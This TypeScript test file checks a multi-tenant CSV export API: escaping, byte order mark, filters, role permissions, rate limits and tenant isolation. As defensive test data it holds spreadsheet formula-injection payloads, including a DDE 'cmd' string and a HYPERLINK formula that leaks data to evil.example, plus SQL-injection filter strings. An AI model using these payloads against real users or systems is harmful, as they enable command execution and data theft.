import anyTest, { type TestFn } from 'ava';
import { parse } from 'csv-parse/sync';
import { buckets } from '#contracts/buckets.ts';
import { startTestService, type TestService } from '#test/service.ts';
import type { TestTenant } from '#test/template.ts';

const test = anyTest as TestFn<{ service: TestService }>;

const wide = { quota: 1_000 };
const substitutes = {
  buckets: {
    ...buckets,
    contactsCsv: { ...buckets.contactsCsv, ...wide },
    usersCsv: { ...buckets.usersCsv, ...wide },
  },
};

test.beforeEach(async (t) => {
  t.context.service = await startTestService(substitutes);
});
test.afterEach.always((t) => t.context.service?.stop());

const path = '/api/v1/contacts-csv';
const bom = '\ufeff';

const get = (service: TestService, target: string, tenant = service.acme, token = tenant.people.ROLE_ADMIN.readWrite) =>
  service.send(tenant, target, { headers: { 'api-token': token } });

/** Puts one contact into a tenant, past every check of ours. */
function insert(service: TestService, tenant: TestTenant, values: Record<string, unknown>) {
  const { email = 'x@y.example', ...others } = values;
  const names = ['tenant_id', 'id', 'email', ...Object.keys(others)];
  const places = names.map((_, index) => (index === 1 ? 'uuidv7()' : `$${index < 1 ? 1 : index}`));
  return service.sql(`insert into contacts (${names}) values (${places})`, [
    tenant.id,
    email,
    ...Object.values(others),
  ]);
}

async function records(service: TestService, query: string, options = {}): Promise<Record<string, string>[]> {
  const { status, text } = await get(service, `${path}?${query}`);
  if (status !== 200) throw new Error(text);
  return parse(text, { columns: true, bom: true, record_delimiter: '\r\n', ...options });
}

test('an export is a file of the day, with a header row named as in JSON, and rows as the list has them', async (t) => {
  const { service } = t.context;
  const { status, headers, text } = await get(service, path);
  t.is(status, 200);
  t.is(headers['content-type'], 'text/csv; charset=utf-8; header=present');
  const day = service.clock.now().toISOString().slice(0, 10);
  t.is(headers['content-disposition'], `attachment; filename="contacts-${day}.csv"`);
  t.is(headers['ratelimit-policy'], '"contactsCsv";q=1000;w=60');
  t.true(text.startsWith(`${bom}id,status,email,firstName,lastName,phone,locale,companyName,jobTitle,address.street,`));
  t.true(text.endsWith('\r\n'));
  t.is(text.replaceAll('\r\n', '').search(/[\r\n]/), -1);
  const rows: Record<string, string>[] = parse(text, { columns: true, bom: true });
  const listed = (await get(service, '/api/v1/contacts')).json.member;
  t.deepEqual(
    rows.map(({ id }) => id),
    listed.map(({ id }: { id: string }) => id),
  );
  const [first] = listed;
  t.like(rows[0], { email: first.email, createdAt: first.createdAt, tags: 'donor|press', 'address.city': 'Lyon' });
  t.is(rows[0]?.['address.region'], '');
});

test('hostile cells come back as they were, but for an apostrophe in front of what would be run', async (t) => {
  const { service } = t.context;
  const hostile = [
    '=1+1',
    '+1-1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
  ];
  const harmless = [
    '-12',
    '-1.5',
    '12,5',
    '+33123456789',
    'a "quoted" one',
    'two\r\nlines',
    'two\nlines',
    'comma, semi; tab\t',
    '',
    ' ',
    '"',
    '""',
    '\\.',
    '\\N',
    "'already",
    '👩‍👩‍👧 émoji',
    '\u202eRTL override',
    'منصور رانيا',
    '\ufeffmark',
    'x'.repeat(200_000),
  ];
  for (const [index, lastName] of [...hostile, ...harmless].entries()) {
    await insert(service, service.acme, { last_name: lastName, email: `h${index}@hostile.example` });
  }
  const lastNames = async (query: string, options = {}) =>
    (await records(service, `search=@hostile.example${query}`, options)).map(({ lastName }) => lastName);
  t.deepEqual(await lastNames(''), [...hostile.map((text) => `'${text}`), ...harmless]);
  t.deepEqual(await lastNames('&delimiter=;', { delimiter: ';' }), [...hostile.map((text) => `'${text}`), ...harmless]);
  t.deepEqual(await lastNames('&raw=1'), [...hostile, ...harmless]);
});

test('every column that strangers fill is written safely', async (t) => {
  const { service } = t.context;
  const text = '=1';
  const address = Object.fromEntries(
    ['street', 'street2', 'postalCode', 'city', 'region', 'countryCode'].map((part) => [part, text]),
  );
  const row = {
    first_name: text,
    last_name: text,
    company_name: text,
    job_title: text,
    note: text,
    external_id: text,
    tags: [text],
    address,
  };
  await insert(service, service.acme, { ...row, email: '=1@formula.example' });
  const [cells = {}] = await records(service, 'search=formula.example');
  const { email, ...others } = cells;
  t.is(email, "'=1@formula.example");
  t.false(Object.values(others).includes(text));
  t.is(Object.values(others).filter((value) => value === `'${text}`).length, 13);
});

test('a byte order mark is there, unless it is refused, or programs ask', async (t) => {
  const { service } = t.context;
  const starts = async (query: string) => (await get(service, `${path}?${query}`)).text.startsWith(bom);
  t.true(await starts(''));
  t.false(await starts('bom=0'));
  t.false(await starts('raw=1'));
  t.true(await starts('raw=1&bom=1'));
});

test('the filters are those of the list, and their values are values', async (t) => {
  const { service } = t.context;
  await insert(service, service.acme, { email: 'quote@filter.example', last_name: "O'Brien \\", external_id: "x'y" });
  const count = async (query: string) => (await records(service, query)).length;
  t.is(await count(`search=${encodeURIComponent("o'brien \\")}`), 1);
  t.is(await count(`externalId=${encodeURIComponent("x'y")}`), 1);
  t.is(await count(`search=${encodeURIComponent("' or true --")}`), 0);
  t.is(await count(`search=${encodeURIComponent("\\' or true --")}`), 0);
  t.is(await count(`externalId=${encodeURIComponent("x') to program 'true' --")}`), 0);
  t.is(await count('email=QUOTE@filter.example'), 1);
  t.is(await count('tag=donor'), (await get(service, '/api/v1/contacts?tag=donor')).json.totalItems);
  t.true((await count('tag=donor')) > 0);
  t.is(await count('status=ARCHIVED'), 0);
  t.is(await count('updatedAt[after]=2199-01-01T00:00:00Z'), 0);
  for (const query of ['delimiter=|', 'bom=yes', 'raw=true', 'itemsPerPage=3', 'after=x', 'tag=a|b']) {
    t.is((await get(service, `${path}?${query}`)).status, 400, query);
  }
});

test('an export of nobody is a header row', async (t) => {
  const { text } = await get(t.context.service, `${path}?search=nobody-at-all`);
  t.is(text.split('\r\n').length, 2);
});

test('administrators export, also with a read-only token; others do not', async (t) => {
  const { service } = t.context;
  const { ROLE_ADMIN, ROLE_EVENT_MANAGER, ROLE_MEMBER } = service.acme.people;
  for (const target of [path, '/api/v1/users-csv']) {
    t.is((await get(service, target, service.acme, ROLE_ADMIN.readOnly)).status, 200);
    t.is((await get(service, target, service.acme, ROLE_EVENT_MANAGER.readWrite)).status, 403);
    t.is((await get(service, target, service.acme, ROLE_MEMBER.readWrite)).status, 403);
    t.is((await get(service, target, service.acme, service.globex.people.ROLE_ADMIN.readWrite)).status, 401);
  }
});

test('who exports and may not change people gets no notes and no dates of birth', async (t) => {
  const { service } = t.context;
  const headers = { 'api-token': service.acme.people.ROLE_ADMIN.readWrite };
  const role = {
    key: 'ROLE_EXPORTER',
    label: 'Exporter',
    permissions: ['contacts:export', 'users:export', 'contacts:read', 'users:read'],
  };
  t.is(
    (await service.send(service.acme, '/api/v1/permission/roles', { method: 'POST', body: role, headers })).status,
    201,
  );
  const { id, readOnly } = service.acme.people.ROLE_MEMBER;
  const granted = await service.send(service.acme, `/api/v1/permission/users/${id}/roles`, {
    method: 'PUT',
    body: { roles: ['ROLE_EXPORTER'] },
    headers,
  });
  t.is(granted.status, 200, granted.text);
  const headerRow = async (target: string, token: string) =>
    (await get(service, target, service.acme, token)).text.slice(1).split('\r\n')[0]?.split(',') ?? [];
  const admin = service.acme.people.ROLE_ADMIN.readOnly;
  const less = (all: string[], without: string[]) => all.filter((name) => !without.includes(name));
  const contacts = await headerRow(path, admin);
  t.deepEqual(await headerRow(path, readOnly), less(contacts, ['note']));
  const users = await headerRow('/api/v1/users-csv', admin);
  t.true(users.includes('birthDate'));
  t.deepEqual(await headerRow('/api/v1/users-csv', readOnly), less(users, ['note', 'birthDate']));
});

test('the 21st export of a token within a minute is a 429; users and contacts are counted apart', async (t) => {
  const service = await startTestService();
  t.teardown(() => service.stop());
  const answers = await Promise.all(Array.from({ length: 25 }, () => get(service, path)));
  t.is(answers.filter(({ status }) => status === 200).length, 20);
  t.is(answers.filter(({ status }) => status === 429).length, 5);
  t.is((await get(service, '/api/v1/users-csv')).status, 200);
});

for (const [title, explicitFilter, rowLevelSecurity] of [
  ['both fences', true, true],
  ['the explicit filter alone', true, false],
  ['row-level security alone', false, true],
  ['no fence at all', false, false],
] as const) {
  test(`with ${title} an export ${explicitFilter || rowLevelSecurity ? 'has' : 'does not have'} nothing but one tenant's`, async (t) => {
    const service = await startTestService({ ...substitutes, fences: { explicitFilter } });
    t.teardown(() => service.stop());
    if (!rowLevelSecurity) {
      for (const table of ['contacts', 'users']) {
        await service.sql(`alter table ${table} disable row level security, no force row level security`);
      }
    }
    const isWhole = explicitFilter || rowLevelSecurity;
    for (const [target, table] of [
      [path, 'contacts'],
      ['/api/v1/users-csv', 'users'],
    ] as const) {
      const { text } = await get(service, target);
      const ids = async ({ id }: TestTenant) =>
        (await service.sql<{ id: string }>(`select id from ${table} where tenant_id = $1`, [id])).map((row) => row.id);
      t.true((await ids(service.acme)).every((id) => text.includes(id)));
      t.is(
        (await ids(service.globex)).some((id) => text.includes(id)),
        !isWhole,
      );
    }
  });
}
